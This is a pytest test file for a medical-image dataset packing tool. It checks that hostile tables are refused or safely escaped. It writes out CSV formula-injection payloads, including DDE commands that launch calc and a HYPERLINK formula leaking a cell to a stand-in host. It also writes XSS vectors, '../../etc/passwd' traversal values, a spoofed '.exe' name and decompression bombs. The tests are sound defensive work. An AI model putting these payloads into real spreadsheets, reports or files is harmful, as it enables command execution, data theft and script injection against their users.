"""Tables full of formulas, odd encodings and endless headers, and what becomes of them."""

import csv
import gzip
import hashlib
import re
import tracemalloc
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hostile_tars import sign
from PIL import Image

from nakt_dist.config import ImageConfig, InspectConfig, PackConfig, SplitConfig
from nakt_dist.errors import DatasetError
from nakt_dist.report.document import Bullets, Cell, Document, Notice, Paragraph, Section, Table
from nakt_dist.report.markdown import to_markdown
from nakt_dist.report.page import to_html
from nakt_dist.shards.manifest import INDEX_NAME, REJECTED_NAME
from nakt_dist.shards.reader import IndexedShards, PseudoLabels
from nakt_dist.shards.tables import INDEX_SCHEMA, read_table
from nakt_dist.shards.verify import verify_folder
from nakt_dist.sources import SourceListing, scan_source
from nakt_dist.sources.csv_tables import read_list, read_rows
from nakt_dist.sources.files import FoundFile
from nakt_dist.stages import pack
from nakt_dist.stages.inspect import run
from tests.memory import at_most_megabytes

pytestmark = pytest.mark.faults

FORMULAS = {
    "command": "=cmd|' /C calc'!A1",
    "link": '=HYPERLINK("http://x.invalid?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A1",
    "minus": "-2+3+cmd|' /C calc'!A1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A1",
}
NAMES = [*FORMULAS.values(), "<script>alert(1)</script>", "\x1b[2J", "$\\frac{", "a|b", "`x`"]


def table(folder: Path, content: bytes, name: str = "t.csv") -> FoundFile:
    (folder / name).write_bytes(content)
    return FoundFile(name, folder / name)


UNREADABLE = {
    "utf_16": "image,patient\na.png,1\n".encode("utf-16"),
    "utf_16_without_mark": "image,patient\na.png,1\n".encode("utf-16-le"),
    "utf_32": "image,patient\na.png,1\n".encode("utf-32"),
    "ebcdic": "image,patient\na.png,1\n".encode("cp037"),
    "nothing": b"",
    "empty_lines": b"\n\n\n",
    "only_a_mark": b"\xef\xbb\xbf",
    "column_twice": b"image,patient,image\na.png,1,b.png\n",
    "column_twice_with_blanks": b"image,patient, image \na.png,1,b.png\n",
    "a_million_columns": b",".join(b"c%d" % n for n in range(1_000_000)) + b"\n",
    "a_million_empty_columns": b"," * 1_000_000 + b"\n",
    "many_columns_none_of_them_right": b",".join(b"imag%d" % n for n in range(90_000)) + b"\n",
    "quote_without_end": b'image,patient\na.png,"1\nb.png,2\n',
    "quote_over_many_lines": b'image,patient\n"' + b"a.png,1\n" * 100_000,
    "quote_in_a_cell": b'image,patient\n"a".png,1\n',
    "cell_of_a_megabyte": b"image,patient\na.png," + b"1" * 2_000_000 + b"\n",
    "line_of_gigabytes_compressed": gzip.compress(b"image,patient\n" + bytes(20_000_000)),
    "compressed_twice": gzip.compress(gzip.compress(b"image,patient\na.png,1\n")),
    "compressed_and_cut": gzip.compress(b"image,patient\na.png,1\n" * 1000)[:40],
    "spreadsheet": b"PK\x03\x04\x14\x00\x06\x00" + bytes(100),
    "pickle": b"\x80\x04\x95\x1c\x00\x00\x00\x00",
    "picture": b"\x89PNG\r\n\x1a\n",
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("content", UNREADABLE.values(), ids=UNREADABLE)
def test_what_is_no_table_is_refused_by_name_and_shortly(tmp_path, content):
    with pytest.raises(DatasetError, match="t\\.csv") as caught:
        list(read_rows(table(tmp_path, content), ("image",), ("patient",)))
    assert len(str(caught.value)) < 3000
    assert str(caught.value).isprintable()


READABLE = {
    "mark": b"\xef\xbb\xbfimage,patient\na.png,1\n",
    "compressed": gzip.compress(b"image,patient\na.png,1\n"),
    "nul_in_a_cell": b"image,patient\na\0.png,1\n",
    "latin_1": "image,patient\na.png,Jos\xe9\n".encode("latin-1"),
    "old_line_ends": b"image,patient\r\na.png,1\r\n",
    "formulas": b"image,patient\n" + b"\"=cmd|' /C calc'!A1\",@SUM(A1)\n",
    "unnamed_columns": b"image,patient,,\na.png,1,,\n",
    "row_of_many_cells": b"image,patient\na.png,1" + b"," * 100_000 + b"\n",
}


@pytest.mark.parametrize("content", READABLE.values(), ids=READABLE)
def test_a_strange_table_is_read_as_text(tmp_path, content):
    (row,) = read_rows(table(tmp_path, content), ("image",), ("patient",))
    assert all(isinstance(cell, str) for cell in row.cells)
    assert row.cells[0].replace("\0", "") in ("a.png", "=cmd|' /C calc'!A1")
    assert row.fault is None


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", ["utf_16", "line_of_gigabytes_compressed", "compressed_and_cut"])
def test_a_list_of_names_that_is_none_is_refused(tmp_path, name):
    with pytest.raises(DatasetError, match="t\\.csv"):
        read_list(table(tmp_path, UNREADABLE[name]))


CELLS = [*NAMES, "a\0.png", "../../etc/passwd", "/etc/passwd", "a" * 5000, "con.png", "a\n.png"]


@pytest.fixture(scope="module")
def packed(tmp_path_factory) -> Path:
    """A dataset whose table is full of formulas: in findings, patients, views and image names."""
    folder = tmp_path_factory.mktemp("hostile_tables")
    source = folder / "published"
    source.mkdir()
    rows = [["filename", "patient", "age", "view", *NAMES]]
    for number, name in enumerate(NAMES):
        Image.new("L", (16, 16), number).save(source / f"{number}.png")
        ages = ["1e999", "=1+1", "-1", "0" * 5000, "٣", "60", "", "nan", "NaN", "1_0"]
        values = [str((number + column) % 2) for column in range(len(NAMES))]
        rows.append([f"{number}.png", name, ages[number], name, *values])
    rows += [[cell, "p", "1", "AP", *["0"] * len(NAMES)] for cell in CELLS]
    with (source / "metadata.csv").open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows(rows)
    pack.run(
        PackConfig(
            layout="images_csv",
            source=str(source),
            output=str(folder / "packed"),
            layout_options={
                "finding_columns": NAMES,
                "patient_column": "patient",
                "age_column": "age",
                "view_column": "view",
            },
            image=ImageConfig(height=16, width=16),
            masks=False,
            splits=SplitConfig(fractions={"train": 1.0}),
            workers=1,
        )
    )
    return folder / "packed"


def test_a_table_of_formulas_is_packed_as_text_and_verifies(packed):
    images = IndexedShards(packed)
    assert len(images) == len(NAMES)
    assert list(images.manifest.findings) == NAMES
    assert set(FORMULAS.values()) <= set(images.patients)
    assert list(verify_folder(packed)) == []


def test_rows_that_name_no_image_are_set_aside_each_with_its_reason(packed):
    rejected = pq.read_table(packed / REJECTED_NAME).to_pylist()
    assert len(rejected) == len(CELLS)
    assert all(row["reason"] and row["detail"].isprintable() for row in rejected)
    assert all(len(row["detail"]) < 1000 for row in rejected)


def publish(folder: Path, rows: list[bytes]) -> None:
    """Writes one image and a compressed table with these rows after its own."""
    Image.new("L", (16, 16)).save(folder / "a.png")
    content = b"".join([b"image,finding\n", b"a.png,1\n", *rows])
    (folder / "metadata.csv.gz").write_bytes(gzip.compress(content))


def listed(folder: Path) -> SourceListing:
    options = {"image_column": "image", "finding_columns": ["finding"]}
    return scan_source("images_csv", folder, {"table": "metadata.csv.gz", **options})


@pytest.mark.timeout(60)
@pytest.mark.parametrize("row", [b"b.png,1,1\n", b"../b.png,1\n", b"b.png\n\n\n"])
def test_a_small_table_of_millions_of_wrong_rows_is_refused_as_a_whole(tmp_path, row):
    publish(tmp_path, [row] * 2_000_000)
    tracemalloc.start()
    with pytest.raises(DatasetError, match=r"\d+ of the first \d+ rows cannot be used") as caught:
        listed(tmp_path)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "metadata.csv.gz" in str(caught.value)
    assert peak < 30_000_000


@pytest.mark.parametrize("row", ["{}.png,1,1\n", ",{}\n"])
@pytest.mark.parametrize("wrong_first", [True, False])
def test_many_wrong_rows_of_a_real_table_are_set_aside_each_by_its_line(tmp_path, row, wrong_first):
    """Clinical tables name patients without an image, often more than those with one."""
    names = [hashlib.sha256(str(number).encode()).hexdigest() for number in range(9000)]
    wrong, good = [row.format(name).encode() for name in names], [b"a.png,1\n"] * 10
    publish(tmp_path, wrong + good if wrong_first else good + wrong)
    first_line = 3 if wrong_first else 13
    lines = range(first_line, first_line + len(wrong))
    assert {record.name for record in listed(tmp_path).records} == {
        "a.png", *(f"metadata.csv.gz, line {line}" for line in lines)
    }  # fmt: skip


def test_no_cell_of_a_table_that_we_write_is_a_formula(packed, tmp_path, capsys):
    run(InspectConfig(pseudo_labels=str(packed), output=str(tmp_path / "inspected")))
    with (tmp_path / "inspected" / "findings.csv").open(newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))
    assert len(rows) == 1 + len(NAMES)
    assert not [cell for row in rows for cell in row if re.match(r"[=+@\t\r]|-\D", cell)]
    assert not any(len(row) != len(rows[0]) for row in rows)
    assert "\x1b" not in capsys.readouterr().out


def write_bomb(path: Path, rows: int, text_bytes: int) -> None:
    """Writes an index of a few kilobytes whose ``source`` alone is that many bytes in each row."""
    row = pq.read_table(path).slice(0, 1)
    columns = {
        field.name: pa.DictionaryArray.from_arrays(
            pa.array([0] * rows, pa.int32()),
            pa.array(["x" * text_bytes]) if field.name == "source" else row[field.name].chunk(0),
        )
        for field in row.schema
        if row[field.name][0].is_valid
    }
    empty = {
        field.name: pa.nulls(rows, field.type) for field in row.schema if field.name not in columns
    }
    table = pa.table({**columns, **empty}).select(row.schema.names)
    pq.write_table(table, path, compression="zstd", store_schema=False)
    assert path.stat().st_size < 500_000
    assert pq.read_schema(path).types == row.schema.types


@pytest.mark.parametrize(
    ("rows", "text_bytes", "told"),
    [
        (40_000, 10, "40000 rows for 4 samples"),
        (40_000, 100_000, "40000 rows for 4 samples"),
        (4, 100_000_000, "unpacks to"),
        (40_000, 100_000, "unpacks to"),
    ],
)
def test_a_signed_index_that_unpacks_to_much_is_refused_unread(folders, rows, text_bytes, told):
    images, _ = folders
    write_bomb(images / INDEX_NAME, rows, text_bytes)

    def say_so(manifest: dict) -> None:
        if "rows" not in told:
            manifest["shards"][0]["samples"] = manifest["counts"]["packed"] = rows

    sign(images, say_so)
    with at_most_megabytes(256):
        (damage,) = verify_folder(images)
        assert told in str(damage) and str(images / INDEX_NAME) in str(damage)
        with pytest.raises(DatasetError, match=f"{told}|each key once"):  # of the columns it reads
            IndexedShards(images)
        with pytest.raises(DatasetError, match=r"unpacks to|4 samples"):
            read_table(images / INDEX_NAME, INDEX_SCHEMA, most_rows=None if "un" in told else 4)


def test_pseudo_labels_of_more_rows_than_their_manifest_says_are_refused_unread(folders):
    images, pseudo = folders
    table = pq.read_table(pseudo / INDEX_NAME)
    pq.write_table(pa.concat_tables([table, table]), pseudo / INDEX_NAME)
    sign(pseudo)
    with pytest.raises(DatasetError, match="8 rows for 4 samples"):
        PseudoLabels(pseudo, IndexedShards(images))
    assert any("8 rows for 4 samples" in str(damage) for damage in verify_folder(pseudo))


def test_rejected_inputs_that_unpack_to_much_are_refused_unread(folders):
    images, _ = folders
    texts = pa.DictionaryArray.from_arrays(
        pa.array([0] * 40_000, pa.int32()), pa.array(["x" * 100_000])
    )
    table = pa.table({name: texts for name in ("source", "key", "reason", "detail")})
    pq.write_table(table, images / REJECTED_NAME, compression="zstd", store_schema=False)
    sign(images)
    damages = list(verify_folder(images))
    assert damages and all("40000 rows for 0 rejected inputs" in str(damage) for damage in damages)


def test_no_text_becomes_a_script_or_a_link_in_a_report():
    vectors = [
        *NAMES,
        "</style><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '" onmouseover="alert(1)',
        "[x](javascript:alert(1))",
        "<!--",
        "]]>",
        "&#60;script&#62;",
        "\u202egpj.exe",
    ]
    cells = tuple((Cell(text, (text,), minor=True), Cell(text, strong=True)) for text in vectors)
    blocks = (
        Table(vectors[0], ("name", "value"), cells, tuple(vectors)),
        Bullets(tuple(vectors)),
        *map(Paragraph, vectors),
        *map(Notice, vectors),
    )
    document = Document(vectors[5], vectors[6], (Section("a", vectors[7], blocks),))
    page, text = to_html(document), to_markdown(document)
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z!]+)", page)) - {"DOCTYPE", "!DOCTYPE"}
    assert tags.isdisjoint({"script", "img", "iframe", "object", "svg", "!"})
    assert not re.search(r"<[^>]*\son\w+\s*=", page)
    assert "<script" not in text and "<img" not in text
    assert not re.search(r"(?<!\\)\[x(?<!\\)\]\(javascript", text)
    assert "&amp;#60;script" in page
